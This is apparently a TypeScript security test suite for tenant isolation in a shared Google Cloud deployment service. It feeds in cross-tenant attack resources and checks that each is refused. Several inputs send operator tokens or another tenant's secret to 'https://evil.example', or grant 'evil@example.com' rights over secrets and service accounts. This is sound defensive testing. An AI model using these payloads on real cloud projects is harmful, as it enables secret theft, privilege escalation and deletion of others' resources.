/** What a tenant could bring about with others' objects and rights at a Google Cloud project that tenants share. */
import { beforeEach, describe, expect, it } from "vitest";
import { PROJECT, REGION, ZONE } from "#test/providers/gcp/shown.ts";
import { makeTenant, type TestTenant } from "#test/support/api.ts";
import { run } from "#test/support/cloud.ts";
import { inTurns, partOf } from "#test/support/depth.ts";
import { deployAt, sharedGoogle } from "./gcp-target.ts";

const scene = sharedGoogle();
const at = `projects/${PROJECT}`;
const owner = `owner@${PROJECT}.iam.gserviceaccount.com`;
let a: TestTenant;
let b: TestTenant;
beforeEach(async () => {
  [a, b] = await Promise.all([makeTenant(), makeTenant()]);
});
const changed = () => scene.sent.map(({ method, path }) => `${method} ${path}`);

describe("attack: the names that Google's JSON takes as well (snake_case) are not looked at", () => {
  it.each(
    partOf(
      [
        [
          "a service account of the operator runs the tenant's container",
          `{ type: gcp:run/Service, properties: { name: spy, template: { service_account: ${owner}, containers: [{ image: x }] } } }`,
        ],
        [
          "another tenant's secret is read",
          `{ type: gcp:run/Service, properties: { name: spy, template: { containers: [{ image: x, env: [{ name: A, value_source: { secret_key_ref: { secret: ${at}/secrets/victim, version: latest } } }] }] } } }`,
        ],
        [
          "tokens of the operator's service account are pushed to the tenant",
          `{ type: gcp:pubsub/Subscription, properties: { name: spy, topic: "\${topic.id}", pushConfig: { pushEndpoint: "https://evil.example", oidc_token: { service_account_email: ${owner} } } } }\n  topic: { type: gcp:pubsub/Topic, properties: { name: own, messageStoragePolicy: { allowedPersistenceRegions: [${REGION}] } } }`,
        ],
        [
          "a secret is kept in a region that the target forbids",
          `{ type: gcp:secretmanager/Secret, properties: { name: s, replication: { user_managed: { replicas: [{ location: us-east1 }] } } } }`,
        ],
        [
          "a topic has its messages in a region that the target forbids",
          `{ type: gcp:pubsub/Topic, properties: { name: spy, messageStoragePolicy: { allowed_persistence_regions: [us-east1] } } }`,
        ],
        [
          "a property of the first level",
          `{ type: gcp:pubsub/Topic, properties: { name: spy, kms_key_name: ${at}/locations/us-east1/keyRings/r/cryptoKeys/victim } }`,
        ],
      ],
      4,
    ),
  )("%s", async (_, resource) => {
    const { error } = await deployAt(scene.targetId, b, `  one: ${resource}\n`);
    expect(changed().filter((one) => /spy|secretId=s/.test(one))).toEqual([]);
    expect(error).toMatchObject({ code: "reference_not_allowed" });
  });
});

it("held: the same by the names that are documented is refused", async () => {
  const { error } = await deployAt(
    scene.targetId,
    b,
    `  one: { type: gcp:run/Service, properties: { name: spy, template: { serviceAccount: ${owner}, containers: [{ image: x }] } } }\n`,
  );
  expect(changed()).toEqual([]);
  expect(error).toMatchObject({ code: "reference_not_allowed" });
});

describe("attack: properties that name others' objects and are not listed in refers", () => {
  it.each(
    partOf(
      [
        [
          "a machine boots from another tenant's snapshot",
          `{ type: gcp:compute/Instance, properties: { name: spy, machineType: zones/${ZONE}/machineTypes/e2-micro, networkInterfaces: [{}], disks: [{ boot: true, initializeParams: { sourceSnapshot: ${at}/global/snapshots/victim } }] } }`,
        ],
        [
          "a machine boots from another tenant's image",
          `{ type: gcp:compute/Instance, properties: { name: spy, machineType: zones/${ZONE}/machineTypes/e2-micro, networkInterfaces: [{}], disks: [{ boot: true, initializeParams: { sourceImage: ${at}/global/images/victim } }] } }`,
        ],
        [
          "a machine takes another tenant's address",
          `{ type: gcp:compute/Instance, properties: { name: spy, machineType: zones/${ZONE}/machineTypes/e2-micro, networkInterfaces: [{ accessConfigs: [{ natIP: 203.0.113.7 }] }], disks: [{ boot: true }] } }`,
        ],
        [
          "a cluster makes nodes with a service account of the operator",
          `{ type: gcp:container/Cluster, properties: { name: spy, location: ${REGION}, autoscaling: { enableNodeAutoprovisioning: true, autoprovisioningNodePoolDefaults: { serviceAccount: ${owner} } } } }`,
        ],
        [
          "a topic reads another tenant's bucket",
          `{ type: gcp:pubsub/Topic, properties: { name: spy, messageStoragePolicy: { allowedPersistenceRegions: [${REGION}] }, ingestionDataSourceSettings: { cloudStorage: { bucket: victim-bucket, textFormat: {} } } } }`,
        ],
        [
          "a topic uses a service account of the operator",
          `{ type: gcp:pubsub/Topic, properties: { name: spy, messageStoragePolicy: { allowedPersistenceRegions: [${REGION}] }, ingestionDataSourceSettings: { awsKinesis: { streamArn: a, consumerArn: b, awsRoleArn: c, gcpServiceAccount: ${owner} } } } }`,
        ],
        [
          "a repository sends another tenant's secret to the tenant's server",
          `{ type: gcp:artifactregistry/Repository, properties: { name: spy, location: ${REGION}, format: DOCKER, mode: REMOTE_REPOSITORY, remoteRepositoryConfig: { dockerRepository: { customRepository: { uri: "https://evil.example" } }, upstreamCredentials: { usernamePasswordCredentials: { username: u, passwordSecretVersion: ${at}/secrets/victim/versions/1 } } } } }`,
        ],
        [
          "a URL map sends requests to another tenant's backend by weight",
          `{ type: gcp:compute/UrlMap, properties: { name: spy, defaultRouteAction: { weightedBackendServices: [{ weight: 1, backendService: ${at}/global/backendServices/victim }] } } }`,
        ],
      ],
      6,
    ),
  )("%s", async (_, resource) => {
    const { error } = await deployAt(scene.targetId, b, `  one: ${resource}\n`);
    expect(changed()).toEqual([]);
    expect(error).toMatchObject({ code: "reference_not_allowed" });
  });

  it("a container without a service account has the rights of the project's own (roles/editor)", async () => {
    const { error } = await deployAt(
      scene.targetId,
      b,
      `  one: { type: gcp:run/Service, properties: { name: spy, template: { containers: [{ image: x }] } } }\n`,
    );
    expect(changed()).toEqual([]);
    expect(error).toMatchObject({ code: "reference_not_allowed" });
  });
});

const isDue = inTurns(3);
describe("attack: an import whose properties say nothing", () => {
  it.runIf(isDue())(
    "of the operator's right on the project, which the tenant's destroy takes away",
    async () => {
      const key = `cloudresourcemanager /v3/${at}`;
      const bindings = [{ role: "roles/owner", members: [`serviceAccount:${owner}`] }];
      scene.cloud.policies.set(key, { version: 3, etag: "BwX1", bindings });
      const id = `${at} roles/owner serviceAccount:${owner}`;
      const one = await deployAt(
        scene.targetId,
        b,
        `  one: { type: gcp:cloudresourcemanager/ProjectIamMember, properties: { role: "", member: "" }, options: { import: "${id}", ignoreChanges: [role, member] } }\n`,
      );
      await run(b, one.instanceId, "destroy");
      expect(scene.cloud.policies.get(key)?.["bindings"], JSON.stringify(one.error)).toEqual(
        bindings,
      );
    },
  );

  it.runIf(isDue())(
    "of a right on another tenant's secret, which the tenant's destroy takes away",
    async () => {
      const key = `secretmanager /v1/${at}/secrets/victim`;
      await deployAt(
        scene.targetId,
        a,
        `  s: { type: gcp:secretmanager/Secret, properties: { name: victim, replication: { userManaged: { replicas: [{ location: ${REGION} }] } } } }\n`,
      );
      const bindings = [
        { role: "roles/secretmanager.secretAccessor", members: ["user:a@example.com"] },
      ];
      scene.cloud.policies.set(key, { version: 3, etag: "BwX1", bindings });
      const id = `${at}/secrets/victim roles/secretmanager.secretAccessor user:a@example.com`;
      const one = await deployAt(
        scene.targetId,
        b,
        `  one: { type: gcp:secretmanager/SecretIamMember, properties: { secret: "", role: "", member: "" }, options: { import: "${id}", ignoreChanges: [secret, role, member] } }\n`,
      );
      await run(b, one.instanceId, "destroy");
      expect(scene.cloud.policies.get(key)?.["bindings"], JSON.stringify(one.error)).toEqual(
        bindings,
      );
    },
  );

  it.runIf(isDue())(
    "of a version of another tenant's secret, which the tenant's destroy destroys",
    async () => {
      await deployAt(
        scene.targetId,
        a,
        `  s: { type: gcp:secretmanager/Secret, properties: { name: victim, replication: { userManaged: { replicas: [{ location: ${REGION} }] } } } }\n`,
      );
      scene.cloud.put("secretmanager/SecretVersion", `${at}/secrets/victim/versions/1`, {
        payload: {},
      });
      const one = await deployAt(
        scene.targetId,
        b,
        `  one: { type: gcp:secretmanager/SecretVersion, properties: { secret: "", payload: { data: eA== } }, options: { import: "${at}/secrets/victim/versions/1", ignoreChanges: [secret, payload] } }\n`,
      );
      await run(b, one.instanceId, "destroy");
      expect(
        scene.cloud.living("secretmanager/SecretVersion").length,
        JSON.stringify(one.error),
      ).toBe(1);
    },
  );
});

describe("attack: another spelling of an id", () => {
  it.runIf(isDue())(
    "a disk by its number is imported and deleted, though another tenant manages it",
    async () => {
      const made = await deployAt(
        scene.targetId,
        a,
        `  d: { type: gcp:compute/Disk, properties: { name: victim, zone: ${ZONE}, sizeGb: 10 } }\n`,
      );
      expect(made.state, JSON.stringify(made.error)).toBe("SUCCEEDED");
      const id = `${at}/zones/${ZONE}/disks`;
      // Compute Engine takes the number of an object wherever it takes its name.
      scene.spelled = (path) => path.replace("/disks/4711", "/disks/victim");
      const one = await deployAt(
        scene.targetId,
        b,
        `  one: { type: gcp:compute/Disk, properties: { name: "4711", zone: ${ZONE}, sizeGb: 10 }, options: { import: "${id}/4711", ignoreChanges: [name, labels] } }\n`,
      );
      await run(b, one.instanceId, "destroy");
      expect(scene.cloud.living("compute/Disk").length, JSON.stringify(one.error)).toBe(1);
    },
  );

  it.runIf(isDue())("a zone of DNS by its number", async () => {
    const made = await deployAt(
      scene.targetId,
      a,
      `  z: { type: gcp:dns/ManagedZone, properties: { name: victim, dnsName: victim.example., description: x } }\n`,
    );
    expect(made.state, JSON.stringify(made.error)).toBe("SUCCEEDED");
    scene.spelled = (path) => path.replace("/managedZones/4711", "/managedZones/victim");
    const one = await deployAt(
      scene.targetId,
      b,
      `  one: { type: gcp:dns/ManagedZone, properties: { name: "4711", dnsName: victim.example., description: x }, options: { import: "${at}/managedZones/4711", ignoreChanges: [name, labels] } }\n`,
    );
    await run(b, one.instanceId, "destroy");
    expect(scene.cloud.living("dns/ManagedZone").length, JSON.stringify(one.error)).toBe(1);
  });
});

describe("attack: what nobody manages is imported by its name, which everybody can guess", () => {
  const deployer = `deployer@${PROJECT}.iam.gserviceaccount.com`;
  const account = `${at}/serviceAccounts/${deployer}`;

  it.runIf(isDue())(
    "the service account that deploys, on which the tenant then gives itself the right to make tokens",
    async () => {
      scene.cloud.put("iam/ServiceAccount", account, {});
      const { error } = await deployAt(
        scene.targetId,
        b,
        `  sa: { type: gcp:iam/ServiceAccount, properties: { name: deployer }, options: { import: "${account}", retainOnDelete: true } }
  right: { type: gcp:iam/ServiceAccountIamMember, properties: { serviceAccount: "\${sa.id}", role: roles/iam.serviceAccountTokenCreator, member: "user:evil@example.com" } }\n`,
      );
      const given = JSON.stringify([...scene.cloud.policies.entries()]);
      expect(given, JSON.stringify(error)).not.toContain("evil@example.com");
    },
  );

  it.runIf(isDue())("the operator's secret, which the tenant then lets itself read", async () => {
    scene.cloud.put("secretmanager/Secret", `${at}/secrets/operators`, {
      replication: { userManaged: { replicas: [{ location: REGION }] } },
    });
    await deployAt(
      scene.targetId,
      b,
      `  s: { type: gcp:secretmanager/Secret, properties: { name: operators, replication: { userManaged: { replicas: [{ location: ${REGION} }] } } }, options: { import: "${at}/secrets/operators", ignoreChanges: [labels] } }
  right: { type: gcp:secretmanager/SecretIamMember, properties: { secret: "\${s.id}", role: roles/secretmanager.secretAccessor, member: "user:evil@example.com" } }\n`,
    );
    expect(JSON.stringify([...scene.cloud.policies.entries()])).not.toContain("evil@example.com");
  });

  it.runIf(isDue())(
    "the operator's bucket, in whichever project it is, and the tenant's destroy deletes it",
    async () => {
      scene.cloud.put("storage/Bucket", "b/operators-state", {
        name: "operators-state",
        location: REGION,
      });
      const one = await deployAt(
        scene.targetId,
        b,
        `  s: { type: gcp:storage/Bucket, properties: { name: operators-state, location: ${REGION} }, options: { import: operators-state, ignoreChanges: [labels, location] } }\n`,
      );
      await run(b, one.instanceId, "destroy");
      expect(scene.cloud.living("storage/Bucket").length, JSON.stringify(one.error)).toBe(1);
    },
  );

  it.runIf(isDue())("a name that a create is about to take is not the tenant's yet", async () => {
    const secret = `${at}/secrets/operators`;
    const replication = `replication: { userManaged: { replicas: [{ location: ${REGION} }] } }`;
    scene.cloud.put("secretmanager/Secret", secret, {});
    const { error } = await deployAt(
      scene.targetId,
      b,
      `  s: { type: gcp:secretmanager/Secret, properties: { name: operators, ${replication} } }
  right: { type: gcp:secretmanager/SecretIamMember, properties: { secret: ${secret}, role: roles/secretmanager.secretAccessor, member: "user:evil@example.com" } }\n`,
    );
    expect(error).toBeDefined();
    expect(JSON.stringify([...scene.cloud.policies.entries()])).not.toContain("evil@example.com");
  });
});

describe("held: what is the tenant's own", () => {
  const topic = (options = "") =>
    `  t: { type: gcp:pubsub/Topic, properties: { name: own, messageStoragePolicy: { allowedPersistenceRegions: [${REGION}] }, labels: { cost_center: a_b } }${options} }\n`;

  it.runIf(isDue())(
    "an account, a secret and a bucket of its own are used by its container",
    async () => {
      const { state, error } = await deployAt(
        scene.targetId,
        b,
        `  sa: { type: gcp:iam/ServiceAccount, properties: { name: runner } }
  s: { type: gcp:secretmanager/Secret, properties: { name: own, replication: { userManaged: { replicas: [{ location: ${REGION} }] } } } }
  right: { type: gcp:secretmanager/SecretIamMember, properties: { secret: "\${s.id}", role: roles/secretmanager.secretAccessor, member: "serviceAccount:\${sa.email}" } }
  web: { type: gcp:run/Service, properties: { name: web, template: { serviceAccount: "\${sa.email}", containers: [{ image: us-docker.pkg.dev/cloudrun/container/hello, env: [{ name: A, valueSource: { secretKeyRef: { secret: "\${s.id}", version: latest } } }] }] } }, options: { dependsOn: ["\${right}"] } }\n`,
      );
      expect(state, JSON.stringify(error)).toBe("SUCCEEDED");
    },
  );

  it.runIf(isDue())("what it released it imports again, and nobody else does", async () => {
    const one = await deployAt(scene.targetId, a, topic(", options: { retainOnDelete: true }"));
    expect(one.state, JSON.stringify(one.error)).toBe("SUCCEEDED");
    await run(a, one.instanceId, "destroy");
    const importing = topic(`, options: { import: ${at}/topics/own }`);
    expect((await deployAt(scene.targetId, b, importing)).error).toMatchObject({ code: "claimed" });
    const again = await deployAt(scene.targetId, a, importing);
    expect(again.state, JSON.stringify(again.error)).toBe("SUCCEEDED");
    await run(a, again.instanceId, "destroy");
    expect(scene.cloud.living("pubsub/Topic")).toEqual([]);
    scene.cloud.put("pubsub/Topic", `${at}/topics/own`, {});
    expect((await deployAt(scene.targetId, a, importing)).error).toMatchObject({ code: "claimed" });
  });
});
